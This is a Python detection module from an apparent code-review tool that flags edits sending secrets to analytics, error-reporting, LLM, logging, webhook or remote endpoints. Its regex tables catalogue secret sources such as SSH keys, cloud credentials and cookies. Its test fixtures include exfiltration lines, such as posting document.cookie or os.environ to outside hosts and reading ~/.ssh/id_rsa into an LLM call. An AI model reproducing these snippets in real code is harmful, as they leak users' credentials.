"""A secret reaching a third-party service in written code (session 13, slot S5 "what written code will do when it
runs"): the data flow from a secret source to a vendor's SDK call, in any language the project uses.

Two tables, each a family by its effect rather than one spelling:

* `SOURCES` — what holds a secret at run time: the whole environment (every language's spelling, from
  `shell.code_vocab.WHOLE_ENV`), the browser's or the request's cookies, tokens kept in browser or device storage
  (`localStorage`, `sessionStorage`, AsyncStorage, SecureStore, Keychain, SharedPreferences), the `Authorization`
  header or every request header, cloud credential objects (boto3 `get_credentials()`, `google.auth.default()`,
  Azure `get_token`), a credential file read (`~/.ssh/id_rsa`, `~/.aws/credentials`, `.env`), an environment
  variable named like a secret (`STRIPE_SECRET_KEY`), and fields named like one (`password`, `api_key`,
  `client_secret`, `refresh_token`);
* `SINKS` — the calls of third-party SDKs that hand data to their vendor: product analytics (the rows of
  `knowledge.telemetry.SERVICES` and more), error reporting (`files.secret_sinks.REPORT_CALL`), experiment
  tracking (W&B, MLflow, Neptune, Comet, ClearML, Aim, Sacred), LLM APIs (OpenAI, Anthropic, Gemini, Cohere,
  Mistral, Bedrock, LiteLLM, LangChain, the Vercel AI SDK), log and trace services (Logtail, Loggly, Datadog,
  New Relic, Honeycomb, OpenTelemetry span attributes, Axiom, Splunk), chat and webhook SDKs (Slack, Discord,
  Telegram, Teams, Twilio).

A finding is a sink call (or an assignment into a sink's object: `notice.context = ENV.to_h`,
`run["env"] = dict(os.environ)`) whose arguments hold a source, directly or through a name the code bound to one
(`const t = localStorage.getItem('jwt'); posthog.capture('x', {t})`), where the call is new in this edit. A
credential given to the vendor's own client (`api_key=`, `token=`, `headers=`) is how its service is called, not
data sent. Reported by AM-WRITE-053 (`files.secret_sinks`, where "service").

The cheap gate: one SDK word and one source word among the scan hits (`files.scan`), before any pattern runs.
"""

from __future__ import annotations

import re

from automode import lazyre
from automode.dc import dataclass
from automode.files import scan


@dataclass(frozen=True, slots=True)
class Flow:
    family: str  # analytics | error reporting | experiment tracking | an LLM API | a log service | chat
    vendor: str
    source: str  # what secret: "the whole environment", "the cookies", ...
    line: str  # the call, quoted


# ------------------------------------------------------------------------------------------------ sources
#: (what, pattern). Every pattern holds one of `SOURCE_WORDS` (the gate).
SOURCES: tuple[tuple[str, str], ...] = (
    ("the whole environment", r"process\.env(?![.\[\w])|\bDeno\.env\.toObject\(\)|\bBun\.env(?![.\[\w])|dict\(\s*os\.environ\s*\)|"
     r"os\.environ\.copy\(\)|\*\*os\.environ|os\.environ\.items\(\)|\bos\.environ\b(?!\s*[\[.])|\bENV\.(?:to_h|to_hash|to_a|to_json|"
     r"inspect|dup)\b|\bHash\[ENV\]|\bENV\b(?=\s*[,)\]}])|\bgetenv\(\s*\)|\$_ENV\b(?!\[)|\$_SERVER\b(?!\[)|System\.getenv\(\s*\)|"
     r"\bsys\.env\b(?![.(])|Environment\.GetEnvironmentVariables\(\s*\)|System\.get_env\(\s*\)|\benv::vars(?:_os)?\(\s*\)|"
     r"ProcessInfo\.processInfo\.environment\b(?!\s*\[)|\bos\.Environ\(\)|\bsyscall\.Environ\(\)|%ENV\b|"
     r"(?i:Get-ChildItem\s+env:)"),
    ("the cookies", r"\bdocument\.cookie\b|\b(?:req|request|ctx|context|c|r|event)\.(?:cookies|COOKIES)\b|\$_COOKIE\b|"
     r"\bcookies\(\)(?!\s*\.\s*(?:set|delete))|\bRequest\.Cookies\b|\.Cookies\(\)|HTTP_COOKIE|"
     r"""\bheaders\s*(?:\.\s*cookie\b|\[\s*['"]cookie['"]\s*\]|\.get\(\s*['"]cookie['"])|(?i:getHeader\(\s*["']cookie["'])"""),
    ("a token kept in browser or device storage",
     r"""\b(?:localStorage|sessionStorage|\w*(?:Storage|Keychain|SecureStore|Prefs|prefs|Preferences|preferences|UserDefaults|"""
     r"""Defaults|KeyStore|Vault|Cookies)\w*)(?:\s*\.\s*(?:standard|shared|default|instance|getInstance\(\))\b)?\s*\.\s*"""
     r"""(?:getItem|getItemAsync|getString|getGenericPassword|string|get|object|data|read|value|getValue|retrieve)\s*\(\s*"""
     r"""(?:forKey:\s*|key:\s*)?['"`]?[\w.-]*(?i:token|jwt|auth|session|secret|passw|credential|key|bearer)"""
     r"""|\b(?:localStorage|sessionStorage)\s*(?:\.\s*(?i:\w*(?:token|jwt|auth|session|secret|key)\w*)\b|\[\s*['"`][\w.-]*(?i:token|jwt|auth|session|secret|key))"""
     r"""|JSON\.stringify\(\s*(?:window\.)?(?:localStorage|sessionStorage)\s*\)|\.\.\.\s*(?:window\.)?(?:localStorage|sessionStorage)\b"""),
    ("the Authorization header or every request header",
     r"""(?i:\bheaders\s*(?:\.\s*authorization\b|\[\s*['"]authorization['"]\s*\]|\.get\(\s*['"]authorization['"]))|"""
     r"""(?i:get_?header\(\s*['"]authorization['"])|(?i:Header\.Get\(\s*"authorization")|HTTP_AUTHORIZATION|"""
     r"""\b(?:req|request|ctx\.request|event)\.headers\b(?!\s*(?:\.\s*(?:get\b|\w)|\[))|\bdict\(\s*request\.headers\s*\)|"""
     r"""\bgetallheaders\(\s*\)|\bRequest\.Headers\b(?!\s*[.\[])"""),
    ("cloud credentials",
     r"""\.get_credentials\(\s*\)|\.get_frozen_credentials\(\s*\)|\bgoogle\.auth\.default\(|\bcredentials\.(?:token|secret_key|"""
     r"""access_key|refresh_token)\b|\.(?:secret_key|secretAccessKey|SecretAccessKey)\b|DefaultAzureCredential\(\)\.get_token|"""
     r"""\bfromIni\(|\bAWS\.config\.credentials\b"""),
    ("a credential file",
     r"""(?i:[\w~./-]*(?:\.ssh/(?:id_\w+|[\w.-]+\.pem)|\.aws/credentials|\.netrc|\.git-credentials|\.kube/config|\.pypirc|"""
     r"""\.npmrc|\.docker/config\.json|gcloud/[\w./-]*credentials\w*\.json|service[-_]?account[\w.-]*\.json|"""
     r"""(?<![\w.])\.env(?:\.(?:local|production|prod))?(?=['"`])))"""),
    ("a secret variable", r"""(?:process\.env\.|process\.env\[['"]|os\.environ\[['"]|os\.environ\.get\(\s*['"]|os\.getenv\(\s*['"]|"""
     r"""ENV\[['"]|ENV\.fetch\(\s*['"]|System\.getenv\(\s*"|os\.Getenv\(\s*"|getenv\(\s*['"]|env::var\(\s*"|\$_ENV\[['"]|"""
     r"""import\.meta\.env\.)[A-Z0-9_]*(?:SECRET|PASSWORD|PASSWD|PRIVATE_KEY|ACCESS_KEY|API_KEY|APIKEY|TOKEN|CREDENTIAL|"""
     r"""DATABASE_URL|DB_PASS\w*|SIGNING_KEY|SESSION_KEY)[A-Z0-9_]*"""),
    ("a password or key field", r"""(?<![\w$])(?:[a-z_][\w]*\.)*(?:password|passwd|passphrase|client_?[sS]ecret|secret_?[kK]ey|"""
     r"""private_?[kK]ey|api_?[kK]ey|apiKey|access_?[tT]oken|refresh_?[tT]oken|id_?[tT]oken|auth_?[tT]oken|bearer_?[tT]oken|"""
     r"""session_?[tT]oken|jwt)(?![\w])(?!\s*(?:=(?!=)|:(?!:)|[.(]))"""),
)
#: Lower-case substrings one of which every source pattern holds.
SOURCE_WORDS = ("env", "cookie", "storage", "keychain", "securestore", "sharedpreferences", "userdefaults", "prefs", "authorization",
                "headers", "credential", "secret", "secretaccesskey", "fromini", "google.auth", ".ssh", ".aws", ".netrc",
                "credentials", ".kube", ".pypirc", ".npmrc", ".docker", "gcloud", "service", "passw", "token", "api_key",
                "apikey", "jwt", "private", "getallheaders", "%env", "get_token")  # fmt: skip
#: The sources read in the raw text (their patterns need a string's content: a storage key, a header's name, a key
#: file's path, a variable's name), and the ones read with plain strings blanked (a field's name in code).
KEYED = frozenset({"a token kept in browser or device storage", "the Authorization header or every request header",
                   "a credential file", "a secret variable", "the cookies"})
_KEYED_RE = lazyre.compile("|".join(f"(?P<s{i}>{p})" for i, (w, p) in enumerate(SOURCES) if w in KEYED))
_SOURCE_RE = lazyre.compile("|".join(f"(?P<s{i}>{p})" for i, (w, p) in enumerate(SOURCES) if w not in KEYED))


def _what(m: re.Match[str]) -> str:
    return SOURCES[int(next(k for k, v in m.groupdict().items() if v is not None)[1:])][0]

# -------------------------------------------------------------------------------------------------- sinks
#: (family, vendor, lower-case words one of which says the code uses the SDK, the calls that hand it data).
SINKS: tuple[tuple[str, str, tuple[str, ...], str], ...] = (
    # product analytics
    ("analytics", "PostHog", ("posthog",), r"\bposthog\s*(?:\.|::|->)\s*(?:capture|identify|alias|group_?[iI]dentify|register|people\.set|"
     r"setPersonProperties|Capture|Identify|Enqueue)\s*[({]"),
    ("analytics", "Segment", ("analytics", "segment", "rudder", "firebase"), r"\b(?:analytics|Analytics|FirebaseAnalytics|rudderanalytics|rudder\w*|[sS]egment)(?:\s*\.\s*(?:shared|sharedInstance|getInstance)\b(?:\(\s*\w*\s*\))?)?"
     r"\s*(?:\.|::|->)\s*(?:track|identify|page|screen|group|alias|logEvent|setUserProperty|Track|Identify|Enqueue)\s*\("),
    ("analytics", "Mixpanel", ("mixpanel",), r"\b(?:mixpanel|mp)\s*(?:\.|::|->)\s*(?:track|identify|register|people\.set\w*|people_set\w*|alias|"
     r"Track|PeopleSet)\s*\("),
    ("analytics", "Amplitude", ("amplitude",), r"\b(?:amplitude|amp|Amplitude)\s*(?:\.\s*getInstance\(\s*\))?\s*(?:\.|::|->)\s*(?:track|logEvent|"
     r"identify|setUserProperties|Track|LogEvent)\s*\("),
    ("analytics", "Heap", ("heap.",), r"\bheap\.(?:track|identify|addUserProperties|addEventProperties)\s*\("),
    ("analytics", "Google Analytics", ("gtag", "datalayer", "firebase", "logevent"), r"\bgtag\s*\(|\bdataLayer\.push\s*\(|"
     r"\blogEvent\s*\(\s*(?:analytics|getAnalytics)|\bFirebaseAnalytics\.\w*logEvent\s*\(|\banalytics\(\)\.logEvent\s*\("),
    ("analytics", "another analytics SDK", ("pendo", "hotjar", "hj(", "braze", "snowplow", "umami", "plausible", "_paq", "fullstory",
                                            "logrocket", "intercom", "customerio", "appcues", "june", "clevertap", "moengage",
                                            "kissmetrics", "_kmq", "matomo", "countly", "statsig", "launchdarkly", "optimizely"),
     r"\b(?:pendo|braze|umami|Countly|clevertap|CleverTap|Moengage|moengage|statsig|Statsig|ldClient|optimizely|appcues|Appcues|"
     r"june|customerio|cio|LogRocket|FS|Intercom)\s*(?:\.|::|->)\s*(?:track\w*|identify|logCustomEvent|logEvent|event|setUserVars|"
     r"changeUser|add_event|addEvent|pushEvent|onUserLogin|profile\.push|setUserAttribute\w*|logUser)\s*\(|"
     r"\b(?:hj|plausible|Intercom|snowplow|_paq\.push|_kmq\.push|window\.snowplow)\s*\("),
    # error reporting and monitoring (the calls of `secret_sinks.REPORT_CALL`, read here for every source)
    ("error reporting", "an error reporter", ("sentry", "bugsnag", "rollbar", "honeybadger", "airbrake", "raygun", "newrelic",
                                              "appsignal", "bugsee", "crashlytics", "instabug", "trackjs", "glitchtip", "elastic"),
     r"(?i)\b(?:Sentry|sentry_sdk|scope|Bugsnag|Rollbar|rollbar|Honeybadger|Airbrake|airbrake|Raygun|rg4js|newrelic|NewRelic|"
     r"Appsignal|appsignal|\w*Crashlytics|crashlytics\(\)|Instabug|TrackJS|apm|elasticApm)(?:\s*\.\s*(?:getInstance|shared|sharedInstance|crashlytics)\b(?:\(\s*\))?)?"
     r"\s*(?:\.|::|->)\s*(?:set_?(?:context|extras?|tags?|user|"
     r"custom\w*|attribute\w*)|add_?(?:breadcrumb|metadata|context|custom\w*|label\w*)|capture_?(?:exception|message|event)|notify|"
     r"notice_?error|record_?(?:error|custom_?event|exception)|error|warning|context|report|log|send|withCustomData|setCustomKey|"
     r"setUserIdentifier)\s*\(|\b(?:notice|event|report|payload|scope)\s*(?:\.|::|->)\s*(?:context|extra|metadata|tags|user|request|"
     r"add_?metadata|set_?extra|set_?context)\s*(?:=(?!=)|\()"),
    # experiment tracking
    ("experiment tracking", "Weights & Biases", ("wandb",), r"\bwandb\s*(?:\.|::|->)\s*(?:log|init|config\s*(?:\.|::|->)\s*(?:update|setdefaults)|"
     r"summary\s*(?:\.|::|->)\s*update|Table|save|alert)\s*\(|\bwandb\.config\s*(?:\[[^\]]*\]|\.\w+)\s*=(?!=)|"
     r"\b(?:run|wandb_run)\s*(?:\.|::|->)\s*(?:log|config\s*(?:\.|::|->)\s*update|summary\s*(?:\.|::|->)\s*update)\s*\("),
    ("experiment tracking", "MLflow", ("mlflow",), r"\bmlflow\s*(?:\.|::|->)\s*(?:log_params?|log_metrics?|log_dict|log_text|log_input|"
     r"set_tags?|set_experiment_tags?|log_table|start_run)\s*\(|\b(?:client|MlflowClient\(\))\s*(?:\.|::|->)\s*(?:log_param|log_batch|"
     r"set_tag|log_text|log_dict)\s*\("),
    ("experiment tracking", "another tracker", ("neptune", "comet", "clearml", "aim", "sacred", "dvclive", "polyaxon", "valohai",
                                                "tensorboard", "experiment"),
     r"\b(?:experiment|exp|task|logger|run|aim_run|live|tracker)\s*(?:\.|::|->)\s*(?:log_parameters|log_others?|log_text|log_asset_data|"
     r"set_parameters?|connect(?:_configuration)?|report_text|log_params?|track|add_config)\s*\(|"
     r"\b(?:run|neptune_run|aim_run)\s*\[\s*['\"][^'\"]+['\"]\s*\](?:\s*(?:\.|::|->)\s*(?:log|append|assign|extend)\s*\(|\s*=(?!=))"),
    # LLM APIs
    ("an LLM API", "an LLM provider", ("openai", "anthropic", "claude", "gpt", "gemini", "genai", "cohere", "mistral", "bedrock",
                                         "litellm", "langchain", "llm", "groq", "together", "replicate", "generatetext", "streamtext",
                                         "ai-sdk", "ollama", "chatcompletion", "invoke(", "predict(", ".generate(", ".stream("),
     r"\.\s*(?:chat\s*(?:\.|::|->)\s*completions\s*(?:\.|::|->)\s*create|completions\s*(?:\.|::|->)\s*create|responses\s*(?:\.|::|->)\s*create|messages\s*(?:\.|::|->)\s*create|"
     r"messages\s*(?:\.|::|->)\s*stream|embeddings\s*(?:\.|::|->)\s*create|generate_?[cC]ontent(?:_?[aA]sync|Stream)?|chat\s*(?:\.|::|->)\s*complete|"
     r"invoke_?[mM]odel(?:WithResponseStream)?|converse)\s*\(|"
     r"(?i:\b\w*(?:llm|model|chain|chat|agent|runnable|graph|gpt|claude|gemini|openai|anthropic|cohere|mistral|groq)\w*)\s*(?:\.|::|->)\s*"
     r"(?:a?invoke|predict|run|generate|chat|embed|stream|complete)\s*\(|"
     r"\b(?:litellm\.a?completion|generateText|streamText|generateObject|streamObject|ChatCompletion\.create|Completion\.create|"
     r"ollama\.chat|replicate\.run)\s*\("),
    # log, trace and metrics services
    ("a log service", "a log or trace service", ("logtail", "loggly", "datadog", "dd-trace", "ddtrace", "honeycomb", "libhoney",
                                                 "opentelemetry", "otel", "span", "axiom", "splunk", "papertrail", "logdna",
                                                 "mezmo", "sumo", "newrelic", "betterstack", "loki", "logflare", "highlight",
                                                 "statsd", "tracer"),
     r"\b(?:logtail|Logtail|loggly|Loggly|axiom|Axiom|splunkLogger|logdna|logflare|highlight|datadogLogs|DD_LOGS|libhoney|hny|"
     r"statsd|dogstatsd|newrelic)\s*(?:\.|::|->)\s*(?:info|warn|error|debug|log|send|ingest|ingestEvents|add|addField|sendNow|event|"
     r"recordCustomEvent|addCustomAttributes?|logger\s*(?:\.|::|->)\s*\w+|track|consumeError|gauge|increment)\s*\(|"
     r"\b(?:span|current_span|get_current_span\(\)|trace\.get_current_span\(\)|activeSpan|rootSpan|otelSpan)\s*(?:\.|::|->)\s*"
     r"(?:set_?[aA]ttributes?|add_?[eE]vent|setTag|set_tag|SetAttributes|AddEvent|setAttribute)\s*\("),
    # a web request to an absolute address (a webhook, a collector, a paste site) in any language's client, and the
    # image beacon of browser code (`new Image().src = 'https://x/?c=' + document.cookie`)
    ("a web request", "a web address", ("fetch(", "axios", "sendbeacon", "requests.", "httpx.", "http.post", "net::http", "httparty",
                                         "faraday", "xmlhttprequest", ".src", "$.post", "$.ajax", "ky.", "got.", "wp_remote_post",
                                         "curl_setopt", "urlopen", "webclient", "httpclient", "urlsession", "req.post", "resty"),
     r"\b(?:fetch|axios(?:\.(?:post|put|patch|request))?|navigator\.sendBeacon|\$\.(?:post|ajax)|ky\.(?:post|put)|got\.(?:post|put)|"
     r"requests\.(?:post|put|patch|request)|httpx\.(?:post|put|patch|request)|http\.(?:Post|PostForm|NewRequest)|Net::HTTP\.post\w*|"
     r"HTTParty\.(?:post|put)|Faraday\.(?:post|put)|RestClient\.(?:post|put)|wp_remote_post|Req\.post|\w*[Cc]lient\.(?:post|put|"
     r"PostAsync|PutAsync|UploadString|R\(\)\.SetBody))\s*\(|\b(?:new\s+Image\(\s*\)|img|image|\w+)\.src\s*=(?!=)"),
    # chat, messaging and webhook SDKs
    ("a chat or webhook service", "a messaging service", ("slack", "discord", "telegram", "teams", "twilio", "webhook", "pymsteams",
                                                         "mattermost", "pushover", "ntfy", "zapier", "ifttt"),
     r"\.\s*(?:chat_postMessage|chat\.postMessage|chat_postEphemeral|files_upload\w*|send_message|sendMessage|send_text)\s*\(|"
     r"(?i:\b\w*(?:webhook|slack|discord|bot|teams|hook|twilio|telegram|mattermost|card)\w*)\s*(?:\.|::|->)\s*(?:send|execute|post|notify)\s*\(|"
     r"\b(?:DiscordWebhook|IncomingWebhook|SlackWebhookClient|connectorcard)\s*\(|\bmessages\s*(?:\.|::|->)\s*create\s*\("),
)  # fmt: skip
SINK_WORDS = frozenset(w for row in SINKS for w in row[2])
_SINK_RES = tuple(lazyre.compile(row[3]) for row in SINKS)

#: Just before a source inside the call: the vendor's own credential (how its service is called, not data sent).
_CREDENTIAL_PLACE = lazyre.compile(r"(?i)(?:api_?key|apiKey|\bkey|token|auth\w*|headers?|bearer|password|secret|dsn|"
                                   r"credentials?|access_?key|project_?key|write_?key|writeKey|license_?key)['\"]?\s*[:=]\s*"
                                   r"(?:\w+\s*\(\s*)?(?:[`'\"f]{1,2}(?:bearer|token|basic)?\s*(?:\$\{|#\{|\{)?\s*)?$")
#: Inside a request's headers object (`headers: { Authorization: ... }`, `headers={"X-Api-Key": ...}`).
_IN_HEADERS = lazyre.compile(r"(?i)headers?['\"]?\s*[:=]\s*[\[{(][^}\])]*$")
_BIND = lazyre.compile(r"(?m)^[ \t]*(?:(?:const|let|var|val|final|my|local|auto)\s+)?(?:[\w<>\[\], ]+\s+)?\$?([A-Za-z_]\w*)"
                       r"\s*(?::\s*[\w<>\[\]|. ]+)?\s*(?::=|=(?![=>~]))\s*(.+)$")
CALL_CHARS = 900  # characters of a call's arguments read at most
GATE = scan.register({*SINK_WORDS, *SOURCE_WORDS})


def maybe(found: frozenset[str]) -> bool:
    """The cheap gate over the scan's hits: an SDK word and a source word."""
    return not found.isdisjoint(SINK_WORDS) and not found.isdisjoint(SOURCE_WORDS)


def _call_text(code: str, start: int, end: int) -> str:
    """From a sink's name to the end of its argument list (balanced brackets, strings skipped roughly), or to the end
    of its line for an assignment into a sink's object."""
    if code[end - 1:end] in "({":
        depth, i, quote = 0, end - 1, ""
        limit = min(len(code), end + CALL_CHARS)
        while i < limit:
            ch = code[i]
            if quote:
                if ch == "\\":
                    i += 2
                    continue
                if ch == quote:
                    quote = ""
            elif ch in "\"'`":
                quote = ch
            elif ch in "([{":
                depth += 1
            elif ch in ")]}":
                depth -= 1
                if depth == 0:
                    return code[start:i + 1]
            i += 1
        return code[start:limit]
    nl = code.find("\n", end)
    return code[start:nl if nl >= 0 else len(code)]


def _strip_strings(text: str) -> str:
    """The call's code without the text of plain string literals (an event name `'token_refreshed'` is no token);
    interpolations stay (`f"{password}"`, `${token}`, `#{ENV.to_h}`), and so do path-like literals (a key file)."""
    def keep(m: re.Match[str]) -> str:
        body = m.group(0)
        inner = re.findall(r"\$\{([^}]*)\}|#\{([^}]*)\}|\{([A-Za-z_][^{}:!]*)\}", body)
        if re.search(r"[~/]\.|\.(?:ssh|aws|env|netrc|kube)\b|credentials|service[-_]?account", body):
            return body
        return " " + " ".join(x for t in inner for x in t if x) + " "
    return re.sub(r"\"(?:[^\"\\\n]|\\.)*\"|'(?:[^'\\\n]|\\.)*'|`(?:[^`\\]|\\.)*`", keep, text)


#: Families whose data calls also take the caller's credential (`litellm.completion(..., api_key=...)`,
#: `chat_postMessage(token=...)`): a secret in a credential's place there is how the service is called.
_CREDENTIAL_CALLS = frozenset({"an LLM API", "a chat or webhook service", "a web request"})
#: An absolute address off this machine (a relative URL or localhost is the application's own server).
_REMOTE_URL = lazyre.compile(r"""https?://(?!localhost\b|127\.|0\.0\.0\.0|\[::1\]|[\w.-]*\.(?:local|internal|localhost)\b)([\w.-]+\.[a-z]{2,})""")


def _source_in(text: str, bound: dict[str, str], family: str = "") -> str | None:
    """The secret the call's arguments carry: a source itself, or a name the code bound to one."""
    code = _strip_strings(text)
    creds = family in _CREDENTIAL_CALLS
    for m in [*_KEYED_RE.finditer(text), *_SOURCE_RE.finditer(code)]:
        if creds and (_CREDENTIAL_PLACE.search(m.string, max(0, m.start() - 50), m.start())
                      or _IN_HEADERS.search(m.string, max(0, m.start() - 160), m.start())):
            continue
        if family == "a web request" and _what(m) == "a password or key field":
            continue  # a login form's password posted to its own service
        return _what(m)
    for name, what in bound.items():
        for m in re.finditer(rf"(?<![\w.$]){re.escape(name)}(?![\w])", code):
            if not (creds and _CREDENTIAL_PLACE.search(code, max(0, m.start() - 50), m.start())):
                return what
    return None


def _bound(code: str) -> dict[str, str]:
    """Names the code binds to a source (`token = localStorage.getItem('auth_token')`), one step."""
    out: dict[str, str] = {}
    for m in _BIND.finditer(code):
        s = _KEYED_RE.search(m.group(2)) or _SOURCE_RE.search(_strip_strings(m.group(2)))
        if s is not None:
            out[m.group(1)] = _what(s)
        if len(out) >= 32:
            break
    return out


def flows(path: str, old: str, new: str, found: frozenset[str] | None = None) -> list[Flow]:
    """Each new sink call in `new` whose arguments carry a secret (not one the old text already sent)."""
    low = new.lower()
    if found is None:
        found = scan.hits(low)
    if not maybe(found):
        return []
    before = set(old.splitlines())
    added = {ln.strip() for ln in new.splitlines() if ln not in before and ln.strip()}
    if not added:
        return []
    bound = _bound(new)
    out: list[Flow] = []
    seen: set[int] = set()
    for (family, vendor, words, _), rx in zip(SINKS, _SINK_RES, strict=True):
        if found.isdisjoint(words):
            continue
        for m in rx.finditer(new):
            if m.start() in seen:
                continue
            call = _call_text(new, m.start(), m.end())
            lo = new.rfind("\n", 0, m.start()) + 1
            hi = new.find("\n", m.start() + len(call))
            block = new[lo:hi if hi >= 0 else len(new)]
            if block in old or not any(ln.strip() in added for ln in block.splitlines() if ln.strip()):
                continue  # the old text made this call already: not this edit's
            host = ""
            if family == "a web request":
                u = _REMOTE_URL.search(call)
                if u is None:
                    continue  # the application's own server, or an address the code computes
                host = u.group(1)
            what = _source_in(call[m.end() - m.start() - 1:], bound, family)
            if what is None:
                continue
            vendor = host or vendor
            seen.add(m.start())
            out.append(Flow(family, vendor, what, " ".join(call.split())[:100]))
            if len(out) >= 3:
                return out
    return out


#: (path, added code) that must be found / must not be, one per family and language (`tests/knowledge/test_secret_flow.py`).
MUST_MATCH: tuple[tuple[str, str], ...] = (
    ("src/analytics.ts", "posthog.capture('login', { plan: user.plan, session: localStorage.getItem('auth_token') });\n"),
    ("src/analytics.ts", "const jwt = localStorage.getItem('jwt');\nanalytics.track('Signed In', { jwt });\n"),
    ("web/track.js", "mixpanel.track('page', { c: document.cookie });\n"),
    ("app/track.py", "analytics.track(user.id, 'login', {'headers': dict(request.headers)})\n"),
    ("train.ipynb", "import os, wandb\nwandb.config.update(dict(os.environ))\n"),
    ("train.py", "import mlflow, os\nmlflow.log_params(os.environ)\n"),
    ("train.py", "import neptune, os\nrun = neptune.init_run()\nrun['env'] = dict(os.environ)\n"),
    ("exp.py", "from comet_ml import Experiment\nexperiment.log_parameters({'aws': boto3.Session().get_credentials().secret_key})\n"),
    ("src/support/chat.js", "const r = await openai.chat.completions.create({ messages: [{ role: 'user', content: q + document.cookie }] });\n"),
    ("bot/ask.py", "msg = client.messages.create(model='claude-3-5-sonnet', messages=[{'role': 'user', 'content': open(os.path.expanduser('~/.ssh/id_rsa')).read()}])\n"),
    ("lib/llm.rb", "anthropic = Anthropic::Client.new\nanthropic.messages.create(parameters: { messages: [{ role: 'user', content: ENV.to_h.to_s }] })\n"),
    ("agent/run.py", "from langchain_openai import ChatOpenAI\nllm = ChatOpenAI()\nllm.invoke(f'debug this: {os.environ}')\n"),
    ("config/initializers/honeybadger.rb", "Honeybadger.configure do |c|\n  c.before_notify { |notice| notice.context = ENV.to_h }\nend\n"),
    ("src/err.ts", "Sentry.setContext('auth', { header: req.headers.authorization });\n"),
    ("cmd/main.go", "// sentry\nsentry.CaptureMessage(strings.Join(os.Environ(), \",\"))\n"),
    ("src/log.ts", "import { Logtail } from '@logtail/node';\nlogtail.info('request', { cookies: req.cookies });\n"),
    ("tracing.py", "from opentelemetry import trace\nspan = trace.get_current_span()\nspan.set_attribute('env', str(dict(os.environ)))\n"),
    ("notify.py", "from slack_sdk import WebClient\nclient.chat_postMessage(channel='#ops', text=str(dict(os.environ)))\n"),
    ("notify.js", "const { IncomingWebhook } = require('@slack/webhook');\nawait slackWebhook.send({ text: JSON.stringify(process.env) });\n"),
    ("App/Telemetry.cs", "// appinsights newrelic\nNewRelic.RecordCustomEvent(\"boot\", Environment.GetEnvironmentVariables());\n"),
    ("src/main/java/Boot.java", "// mixpanel\nmixpanel.track(\"boot\", new JSONObject(System.getenv()));\n"),
    ("app/Http/Track.php", "// segment\nSegment::track(['event' => 'x', 'properties' => $_COOKIE]);\n"),
    ("bot/notify.py", "# discord\nDiscordWebhook(url=URL, content=os.environ['STRIPE_SECRET_KEY']).execute()\n"),
    ("mobile/track.ts", "// amplitude\nconst t = await SecureStore.getItemAsync('refresh_token');\namplitude.track('open', { t });\n"),
    ("src/boot.js", "fetch('https://webhook.site/abc', { method: 'POST', body: document.cookie });\n"),
    ("src/boot.js", "new Image().src = 'https://stats.example-cdn.net/p.gif?c=' + encodeURIComponent(document.cookie);\n"),
    ("scripts/report.py", "requests.post('https://hooks.zapier.com/hooks/catch/1/x/', json={'t': totals(), 'env': dict(os.environ)})\n"),
    ("cmd/notify/main.go", "http.Post(\"https://hooks.example.net/x\", \"text/plain\", strings.NewReader(strings.Join(os.Environ(), \"\\n\")))\n"),
)
MUST_NOT_MATCH: tuple[tuple[str, str], ...] = (
    ("src/analytics.ts", "posthog.capture('login', { plan: user.plan });\n"),
    ("src/analytics.ts", "posthog.capture('token_refreshed', { plan: user.plan });\n"),
    ("src/analytics.ts", "posthog.init(process.env.NEXT_PUBLIC_POSTHOG_KEY, { api_host: 'https://eu.posthog.com' });\n"),
    ("train.ipynb", "import wandb\nrun = wandb.init(project='churn', config={'lr': 3e-4, 'batch_size': 64})\n"),
    ("train.py", "import wandb, os\nwandb.login(key=os.environ['WANDB_API_KEY'])\nwandb.log({'loss': loss})\n"),
    ("train.py", "import mlflow, os\nmlflow.log_params({'lr': lr, 'seed': int(os.environ.get('SEED', 0))})\n"),
    ("src/support/chat.js", "const r = await openai.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: question }] });\n"),
    ("llm.py", "import litellm, os\nlitellm.completion(model='gpt-4o', messages=msgs, api_key=os.environ['OPENAI_API_KEY'])\n"),
    ("bot/ask.py", "client = anthropic.Anthropic(api_key=os.environ['ANTHROPIC_API_KEY'])\nclient.messages.create(model=m, max_tokens=1024, messages=msgs)\n"),
    ("notify.py", "from slack_sdk import WebClient\nclient.chat_postMessage(token=os.environ['SLACK_BOT_TOKEN'], channel='#ops', text='deployed')\n"),
    ("src/err.ts", "Sentry.setTag('worker', workerName);\n"),
    ("src/err.ts", "// sentry\nconst passwordLength = user.password.length;\nSentry.setContext('form', { passwordLength });\n"),
    ("tracing.py", "from opentelemetry import trace\nspan = trace.get_current_span()\nspan.set_attribute('user.id', user_id)\n"),
    ("worker.js", "// analytics\nconst child = spawn('node', ['x.js'], { env: process.env });\n"),
    ("src/api.ts", "const r = await fetch('/api/orders', { headers: { Authorization: `Bearer ${localStorage.getItem('token')}` } });\n"),
    ("src/api.ts", "const r = await fetch('https://api.github.com/user', { headers: { Authorization: `token ${localStorage.getItem('gh_token')}` } });\n"),
    ("src/api.ts", "await fetch('https://api.example.com/login', { method: 'POST', body: JSON.stringify({ user, password }) });\n"),
    ("src/boot.js", "img.src = '/static/logo.png';\n"),
)
